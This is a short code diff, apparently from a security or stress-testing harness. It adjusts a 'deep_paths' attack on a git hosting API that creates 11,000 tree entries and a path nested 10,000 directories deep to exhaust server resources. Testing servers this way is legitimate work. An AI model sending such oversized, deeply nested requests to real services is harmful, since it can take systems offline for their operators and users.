@@ -164,8 +164,7 @@ def deep_paths(target, options):
     attacker = Attacker(target)
     blob = json.loads(attacker.post(f"{WORK}/git/blobs", {"content": "x"})[1])["sha"]
     # Few folders with many entries, each with its own path.
-    many = [{"path": f"{'abc'[number % 3] * 60}/{number:06}", "mode": "100644", "type": "blob", "sha": blob}
-            for number in range(11_000)]
+    many = [{"path": f"{number % 3}/{number:06}", "mode": "100644", "sha": blob} for number in range(11_000)]
 
     def attack():
         deep = {"path": "a/" * 10_000 + "b", "mode": "100644", "type": "blob", "sha": blob}
